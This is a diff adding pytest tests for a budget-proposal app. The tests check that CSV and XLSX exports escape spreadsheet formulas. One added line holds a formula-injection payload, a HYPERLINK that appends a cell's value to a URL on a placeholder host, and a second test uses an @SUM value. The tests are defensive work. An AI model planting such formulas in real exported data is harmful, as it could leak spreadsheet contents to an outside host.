@@ -212,3 +212,36 @@ def test_table_queries_do_not_grow_with_the_data(
     small = count()
     grow(cycle, rw_kenari, betonisasi, tenda, superuser, 60)
     assert count() == small <= 10
+
+
+FORMULA = '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")'
+
+
+@pytest.mark.parametrize("export", ["csv", "xlsx"])
+def test_exports_neutralise_formulas(
+    client, suban, cycle, rw_kenari, betonisasi, superuser, export
+):
+    make_proposal(cycle, rw_kenari[0], betonisasi, superuser, title=FORMULA, measure="@SUM(1)")
+    client.force_login(suban)
+    response = client.get(reverse("proposals:list"), {"_export": export})
+    if export == "csv":
+        row = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))[1]
+        title, measure, cost = row[1], row[8], row[9]
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+        cells = sheet[2]
+        assert cells[1].data_type == "s"  # text, not a formula
+        title, measure, cost = cells[1].value, cells[8].value, cells[9].value
+    assert title == "'" + FORMULA
+    assert measure == "'@SUM(1)"
+    assert int(cost) == 54_000_000  # numbers stay numbers
+
+
+def test_spreadsheet_text_leaves_ordinary_values_alone():
+    from musrenbang.areas.formatting import spreadsheet_text
+
+    assert spreadsheet_text("Betonisasi jalan") == "Betonisasi jalan"
+    assert spreadsheet_text(-5) == -5
+    assert spreadsheet_text("-5") == "'-5"
+    assert spreadsheet_text("\tx") == "'\tx"
+    assert spreadsheet_text("") == ""
